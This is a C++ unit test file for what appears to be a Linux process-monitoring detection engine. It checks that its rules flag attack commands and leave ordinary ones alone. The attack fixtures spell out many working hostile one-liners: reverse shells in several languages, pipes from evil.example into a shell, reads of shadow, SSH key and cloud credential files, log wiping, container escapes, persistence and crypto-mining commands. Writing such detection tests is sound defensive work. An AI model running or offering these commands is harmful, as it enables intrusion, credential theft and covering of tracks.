// The default rule set (rules/): it loads, every rule fires on the attacks it
// describes, and ordinary commands stay quiet.
#include <gtest/gtest.h>

#include <set>

#include "matcher_test_util.h"

namespace vigil::rules {
namespace {

using testing::Event;
using testing::match_ids;
using Ids = std::vector<std::string>;

struct Case {
  std::string_view exe;
  std::vector<std::string_view> argv;
  Ids expect;  // empty for an ordinary command
  std::string_view cwd = "/home/user";
  std::string_view parent_exe = "/usr/bin/bash";
  std::string_view parent_cmdline = "-bash";
};

std::string_view base_name(std::string_view path) {
  const size_t slash = path.rfind('/');
  return slash == std::string_view::npos ? path : path.substr(slash + 1);
}

Event event_of(const Case& c) {
  Event ev;
  ev.set(FieldId::ProcExe, c.exe)
      .set(FieldId::ProcName, base_name(c.argv.at(0)))
      .set(FieldId::ProcCwd, c.cwd)
      .set(FieldId::ParentExe, c.parent_exe)
      .set(FieldId::ParentName, base_name(c.parent_exe))
      .set(FieldId::ParentCmdline, c.parent_cmdline)
      .argv(c.argv);
  return ev;
}

std::shared_ptr<const RuleSet> default_rules() {
  static const auto set = RuleSet::load({VIGIL_SOURCE_DIR "/rules"});
  return set;
}

const char* kWallet =
    "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3"
    "A";

const std::vector<Case>& malicious() {
  static const std::vector<Case> cases = {
      // Cryptomining.
      {"/opt/xmrig/xmrig",
       {"xmrig", "-o", "stratum+tcp://pool.minexmr.com:4444", "-u", kWallet, "--donate-level=1"},
       {"crypto_miner_by_name", "crypto_miner_pool_url", "crypto_miner_flags"}},
      {"/usr/local/bin/systemd-helper",
       {"systemd-helper", "-o", "pool.supportxmr.com:443", "-u", kWallet, "-p", "x"},
       {"crypto_miner_pool_and_wallet"}},
      {"/usr/bin/cpuminer",
       {"cpuminer", "-a", "sha256d", "--url=stratum+ssl://btc.pool.example:3334", "--userpass=a:b"},
       {"crypto_miner_by_name", "crypto_miner_pool_url"}},
      {"/opt/app/miner",
       {"./miner", "--randomx-1gb-pages", "--cpu-max-threads-hint=75"},
       {"crypto_miner_flags"}},
      {"/tmp/kdevtmpfsi", {"/tmp/kdevtmpfsi"}, {"crypto_miner_by_name", "exec_from_tmp"}},
      {"/usr/bin/XMRig", {"XMRig", "-c", "config.json"}, {"crypto_miner_by_name"}},
      {"/usr/bin/python3.11",
       {"python3", "proxy.py", "--remote", "STRATUM+TCP://eu.pool.example:3333"},
       {"crypto_miner_pool_url"}},

      // Reverse shells.
      {"/usr/bin/bash",
       {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
       {"reverse_shell_dev_tcp"}},
      {"/usr/bin/dash",
       {"sh", "-c",
        "exec 5<>/dev/tcp/attacker.example/443; cat <&5 | while read line; do $line 2>&5 >&5; "
        "done"},
       {"reverse_shell_dev_tcp"}},
      {"/usr/bin/bash",
       {"bash", "-c", "0<&196;exec 196<>/dev/udp/10.0.0.1/4242; sh <&196 >&196 2>&196"},
       {"reverse_shell_dev_tcp"}},
      {"/usr/bin/nc.traditional",
       {"nc", "-e", "/bin/sh", "10.0.0.1", "4444"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/ncat",
       {"ncat", "10.0.0.1", "4444", "--sh-exec", "bash -i"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/nc.traditional",
       {"nc", "-c", "bash", "10.0.0.1", "4444"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/nc.traditional",
       {"nc.traditional", "-lvnp", "4444", "-e", "/bin/bash"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/nc.traditional",
       {"nc", "-lvpe", "/bin/bash", "4444"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/busybox",
       {"busybox", "nc", "10.0.0.1", "4444", "-e", "sh"},
       {"reverse_shell_netcat_exec"}},
      {"/usr/bin/socat",
       {"socat", "tcp:10.0.0.1:4444", "exec:/bin/sh,pty,stderr,setsid"},
       {"reverse_shell_socat_exec"}},
      {"/usr/bin/socat",
       {"socat", "TCP-LISTEN:4444,reuseaddr,fork", "EXEC:/bin/bash"},
       {"reverse_shell_socat_exec"}},
      {"/usr/bin/dash",
       {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"},
       {"reverse_shell_piped_to_network"}},
      {"/usr/bin/bash",
       {"bash", "-c", "bash -i 2>&1 | telnet 10.0.0.1 23"},
       {"reverse_shell_piped_to_network"}},
      {"/usr/bin/python3.11",
       {"python3", "-c",
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        "s.connect((\"10.0.0.1\",1234));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);"
        "os.dup2(s.fileno(),2);import pty; pty.spawn(\"/bin/bash\")"},
       {"reverse_shell_interpreter_one_liner"}},
      {"/usr/bin/perl",
       {"perl", "-e",
        "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
        "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"},
       {"reverse_shell_interpreter_one_liner"}},
      {"/usr/bin/ruby3.1",
       {"ruby", "-rsocket",
        "-ef=TCPSocket.open(\"10.0.0.1\",1234).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d "
        "2>&%d\",f,f,f)"},
       {"reverse_shell_interpreter_one_liner"}},
      {"/usr/bin/php8.2",
       {"php", "-r", "$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");"},
       {"reverse_shell_interpreter_one_liner"}},

      // Credential access.
      {"/usr/bin/cat", {"cat", "/etc/shadow"}, {"shadow_file_read"}},
      {"/usr/bin/cp", {"cp", "/etc/gshadow", "/tmp/g"}, {"shadow_file_read"}},
      {"/usr/sbin/unshadow", {"unshadow", "/etc/passwd", "/etc/shadow"}, {"shadow_file_read"}},
      {"/usr/bin/cat", {"cat", "/home/ubuntu/.aws/credentials"}, {"cloud_credentials_file_read"}},
      {"/usr/bin/tar",
       {"tar", "czf", "/tmp/x.tgz", "/root/.config/gcloud/credentials.db"},
       {"cloud_credentials_file_read"}},
      {"/usr/bin/cat", {"cat", "/root/.kube/config"}, {"kubeconfig_read"}},
      {"/usr/bin/cat",
       {"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"},
       {"k8s_service_account_token_read"}},
      {"/usr/bin/cat", {"cat", "/root/.ssh/id_rsa"}, {"ssh_private_key_read"}},
      {"/usr/bin/base64", {"base64", "-w0", "/home/u/.ssh/id_ed25519"}, {"ssh_private_key_read"}},
      {"/usr/bin/curl",
       {"curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
       {"cloud_metadata_access"}},
      {"/usr/bin/curl",
       {"curl", "-H", "Metadata-Flavor: Google",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/"
        "token"},
       {"cloud_metadata_access"}},
      {"/usr/bin/wget",
       {"wget", "-qO-", "http://[fd00:ec2::254]/latest/meta-data/"},
       {"cloud_metadata_access"}},
      {"/usr/bin/curl",
       {"curl", "http://100.100.100.200/latest/meta-data/ram/"},
       {"cloud_metadata_access"}},

      // Download and execute.
      {"/usr/bin/dash",
       {"sh", "-c", "curl -fsSL http://evil.example/x.sh | sh"},
       {"download_piped_to_shell"}},
      {"/usr/bin/bash",
       {"bash", "-c", "wget -O- http://evil.example/i | bash"},
       {"download_piped_to_shell"}},
      {"/usr/bin/bash",
       {"bash", "-c", "curl http://x.example/a.sh | sudo -E bash -s -- --yes"},
       {"download_piped_to_shell"}},
      {"/usr/bin/bash",
       {"bash", "-c", "sh -c \"$(curl -fsSL https://evil.example/i.sh)\""},
       {"download_piped_to_shell"}},
      {"/usr/bin/bash",
       {"bash", "-c", "bash <(wget -qO- http://evil.example/i.sh)"},
       {"download_piped_to_shell"}},
      {"/usr/bin/bash", {"bash", "-c", "set +o history; id"}, {"shell_history_disabled"}},
      {"/usr/bin/dash",
       {"sh", "-c", "curl -s http://evil.example/p.py | python3"},
       {"download_piped_to_interpreter"}},
      {"/usr/bin/dash",
       {"sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"},
       {"base64_decoded_to_shell"}},

      // History and logs.
      {"/usr/bin/bash", {"bash", "-c", "history -c"}, {"shell_history_disabled"}},
      {"/usr/bin/bash", {"bash", "-c", "unset HISTFILE; id"}, {"shell_history_disabled"}},
      {"/usr/bin/dash", {"sh", "-c", "export HISTFILE=/dev/null"}, {"shell_history_disabled"}},
      {"/usr/bin/rm", {"rm", "-f", "/root/.bash_history"}, {"shell_history_deleted"}},
      {"/usr/bin/dash", {"sh", "-c", "cat /dev/null > ~/.bash_history"}, {"shell_history_deleted"}},
      {"/usr/bin/shred", {"shred", "-u", "/var/log/auth.log"}, {"log_files_wiped"}},
      {"/usr/bin/truncate", {"truncate", "-s", "0", "/var/log/syslog"}, {"log_files_wiped"}},
      {"/usr/bin/dash", {"sh", "-c", "cat /dev/null > /var/log/wtmp"}, {"log_files_wiped"}},
      {"/usr/bin/bash", {"bash", "-c", "echo > /var/log/secure; ls"}, {"log_files_wiped"}},

      // Container escape.
      {"/usr/bin/nsenter",
       {"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"},
       {"nsenter_host_namespaces"}},
      {"/usr/bin/nsenter",
       {"nsenter", "--target=1", "--mount", "--net", "sh"},
       {"nsenter_host_namespaces"}},
      {"/usr/bin/mount", {"mount", "/dev/sda1", "/mnt/host"}, {"host_disk_mounted"}},
      {"/usr/bin/mount",
       {"mount", "-t", "ext4", "/dev/nvme0n1p1", "/tmp/h"},
       {"host_disk_mounted"}},
      {"/usr/sbin/chroot", {"chroot", "/host", "bash"}, {"chroot_into_host_root"}},
      {"/usr/bin/curl",
       {"curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"},
       {"container_runtime_socket_access"}},
      {"/usr/bin/dash",
       {"sh", "-c", "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent"},
       {"cgroup_release_agent_escape"}},

      // Drift.
      {"/tmp/.X11/kworker", {"kworker"}, {"exec_from_tmp"}},
      {"/var/tmp/update.bin", {"./update.bin", "--daemon"}, {"exec_from_tmp"}, "/var/tmp"},
      {"/dev/shm/x", {"/dev/shm/x"}, {"exec_from_dev_shm"}},
      {"/memfd:payload (deleted)", {"[kworker/0:1]"}, {"exec_from_memfd"}},

      // Persistence and privilege escalation.
      {"/usr/bin/dash",
       {"sh", "-c", "echo ssh-rsa AAAAB3NzaC1yc2E attacker >> /root/.ssh/authorized_keys"},
       {"ssh_authorized_keys_appended"}},
      {"/usr/bin/chmod", {"chmod", "u+s", "/bin/bash"}, {"setuid_bit_on_shell_or_tmp_file"}},
      {"/usr/bin/chmod", {"chmod", "4755", "/tmp/rootshell"}, {"setuid_bit_on_shell_or_tmp_file"}},
      {"/usr/bin/dash",
       {"sh", "-c", "echo /tmp/evil.so > /etc/ld.so.preload"},
       {"ld_preload_file_written"}},
      {"/usr/sbin/insmod", {"insmod", "/tmp/rootkit.ko"}, {"kernel_module_from_tmp"}},
  };
  return cases;
}

const std::vector<Case>& ordinary() {
  static const std::vector<Case> cases = {
      {"/usr/bin/ls", {"ls", "-la", "/home/user"}, {}},
      {"/usr/bin/cat", {"cat", "/etc/passwd"}, {}},
      {"/usr/bin/cat", {"cat", "README.md"}, {}},
      {"/usr/bin/grep", {"grep", "-rn", "shadow", "src/"}, {}},
      {"/usr/bin/ps", {"ps", "aux"}, {}},
      {"/usr/bin/apt-get", {"apt-get", "install", "-y", "curl"}, {}},
      {"/usr/bin/apt", {"apt", "update"}, {}},
      {"/usr/bin/dpkg", {"dpkg", "-i", "package.deb"}, {}},
      {"/var/lib/dpkg/info/openssh-server.postinst",
       {"/var/lib/dpkg/info/openssh-server.postinst", "configure", "1:9.2p1-2"},
       {},
       "/",
       "/usr/bin/dpkg",
       "/usr/bin/dpkg --configure -a"},
      {"/usr/bin/passwd", {"passwd", "alice"}, {}},
      {"/usr/sbin/pwck", {"pwck", "-r", "/etc/passwd", "/etc/shadow"}, {}},
      {"/usr/bin/pip3", {"pip", "install", "requests"}, {}},
      {"/usr/bin/node", {"npm", "install", "express"}, {}},
      {"/usr/bin/gcc-12", {"gcc", "-O2", "-c", "main.c", "-o", "main.o"}, {}},
      {"/usr/bin/g++-12", {"g++", "-o", "app", "main.cpp"}, {}},
      {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
       {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "main.c", "-o", "/tmp/ccXYZ.s"},
       {}},
      {"/usr/bin/x86_64-linux-gnu-as", {"as", "-o", "/tmp/cc123.o", "/tmp/cc123.s"}, {}},
      {"/usr/bin/x86_64-linux-gnu-ld.bfd", {"ld", "-o", "a.out", "/tmp/cc123.o"}, {}},
      {"/usr/bin/gcc-12", {"gcc", "-o", "/tmp/test", "/tmp/test.c"}, {}},
      {"/usr/bin/make", {"make", "-j2"}, {}},
      {"/usr/bin/cmake", {"cmake", "--build", "build"}, {}},
      {"/usr/bin/git", {"git", "clone", "https://github.com/org/repo.git"}, {}},
      {"/usr/bin/git", {"git", "push", "origin", "main"}, {}},
      {"/usr/bin/systemctl", {"systemctl", "restart", "nginx"}, {}},
      {"/usr/bin/ssh", {"ssh", "user@host.example.com"}, {}},
      {"/usr/bin/ssh", {"ssh", "-i", "/home/u/.ssh/id_rsa", "deploy@10.0.0.5"}, {}},
      {"/usr/bin/ssh-keygen", {"ssh-keygen", "-t", "ed25519", "-f", "/home/u/.ssh/id_ed25519"}, {}},
      {"/usr/bin/cat", {"cat", "/home/u/.ssh/id_rsa.pub"}, {}},
      {"/usr/bin/curl", {"curl", "-o", "release.tar.gz", "https://example.com/release.tar.gz"}, {}},
      {"/usr/bin/wget", {"wget", "https://example.com/file.zip"}, {}},
      {"/usr/bin/curl",
       {"curl", "-fsSL", "https://example.com/install.sh", "-o", "install.sh"},
       {}},
      {"/usr/bin/curl",
       {"curl", "-u", "admin:password", "-o", "out.json", "http://api.example.com:8080/x"},
       {}},
      {"/usr/bin/python3.11", {"python3", "manage.py", "runserver"}, {}},
      {"/usr/bin/python3.11", {"python3", "-c", "import socket; print(socket.gethostname())"}, {}},
      {"/usr/bin/python3.11", {"python3", "-m", "pip", "install", "-r", "requirements.txt"}, {}},
      {"/usr/bin/node", {"node", "server.js"}, {}},
      {"/usr/bin/kubectl", {"kubectl", "--kubeconfig", "/home/u/.kube/config", "get", "pods"}, {}},
      {"/usr/bin/nc.openbsd", {"nc", "-zv", "db.internal", "5432"}, {}},
      {"/usr/bin/bash", {"bash", "-c", "echo > /dev/tcp/db/5432"}, {}},
      {"/usr/bin/socat", {"socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"}, {}},
      {"/usr/bin/docker", {"docker", "-H", "unix:///var/run/docker.sock", "ps"}, {}},
      {"/usr/bin/mount", {"mount", "-t", "proc", "proc", "/proc"}, {}},
      {"/tmp/go-build2618/b001/exe/main", {"/tmp/go-build2618/b001/exe/main"}, {}},
      {"/usr/bin/chmod", {"chmod", "+x", "build.sh"}, {}},
      {"/usr/bin/chmod", {"chmod", "755", "/usr/local/bin/tool"}, {}},
      {"/usr/bin/tail", {"tail", "-f", "/var/log/syslog"}, {}},
      {"/usr/bin/journalctl", {"journalctl", "-u", "nginx"}, {}},
      {"/usr/bin/dash", {"sh", "-c", "/usr/bin/app > /var/log/app.log 2>&1"}, {}},
      {"/usr/sbin/logrotate", {"logrotate", "/etc/logrotate.conf"}, {}},
      {"/usr/bin/bash", {"bash", "-c", "history | tail -n 20"}, {}},
      {"/usr/bin/rm", {"rm", "-rf", "build/"}, {}},
      {"/usr/bin/dash", {"sh", "-c", "curl -s https://api.example.com/health | jq .status"}, {}},
      {"/usr/bin/crontab", {"crontab", "-l"}, {}},
      {"/usr/bin/openssl", {"openssl", "s_client", "-connect", "example.com:443"}, {}},
      {"/usr/bin/sudo", {"sudo", "apt-get", "upgrade"}, {}},
      {"/usr/bin/git", {"git", "log", "--author=someone"}, {}},
      {"/usr/bin/vim.basic", {"vim", "/etc/hosts"}, {}},
      {"/usr/bin/dash", {"sh", "-c", "echo started > /var/log/app/start.log"}, {}},
      {"/usr/bin/base64", {"base64", "-d", "blob.b64"}, {}},
      {"/usr/bin/ncat", {"ncat", "-l", "8080"}, {}},
  };
  return cases;
}

std::string describe(const Case& c) {
  std::string s(c.exe);
  for (auto a : c.argv) s += " [" + std::string(a) + "]";
  return s;
}

TEST(DefaultRules, load_and_are_well_formed) {
  const auto set = default_rules();
  EXPECT_GE(set->rules().size(), 25u);
  for (const Rule& r : set->rules()) {
    EXPECT_FALSE(r.description.empty()) << r.id;
    EXPECT_TRUE(r.enabled) << r.id;
    bool tactic = false;
    for (const std::string& t : r.tags)
      tactic |= t.starts_with("mitre.") && !t.starts_with("mitre.T");
    EXPECT_TRUE(tactic) << r.id << " has no tactic tag";
  }
}

TEST(DefaultRules, each_attack_yields_exactly_its_rules) {
  const auto set = default_rules();
  RuleSet::Scratch scratch(*set);
  ASSERT_GE(malicious().size(), 40u);
  for (const Case& c : malicious()) {
    EXPECT_EQ(match_ids(*set, scratch, event_of(c)), c.expect) << describe(c);
  }
}

TEST(DefaultRules, ordinary_commands_yield_nothing) {
  const auto set = default_rules();
  RuleSet::Scratch scratch(*set);
  ASSERT_GE(ordinary().size(), 40u);
  for (const Case& c : ordinary()) {
    EXPECT_EQ(match_ids(*set, scratch, event_of(c)), Ids{}) << describe(c);
  }
}

TEST(DefaultRules, every_rule_has_an_attack_case) {
  std::set<std::string> seen;
  for (const Case& c : malicious()) seen.insert(c.expect.begin(), c.expect.end());
  for (const Rule& r : default_rules()->rules()) EXPECT_TRUE(seen.count(r.id)) << r.id;
}

TEST(DefaultRules, fork_and_exit_events_yield_nothing) {
  const auto set = default_rules();
  RuleSet::Scratch scratch(*set);
  Event ev(VIGIL_KIND_FORK);
  ev.set(FieldId::ProcExe, "/tmp/x").argv({"nc", "-e", "/bin/sh"});
  EXPECT_TRUE(match_ids(*set, scratch, ev).empty());
}

}  // namespace
}  // namespace vigil::rules
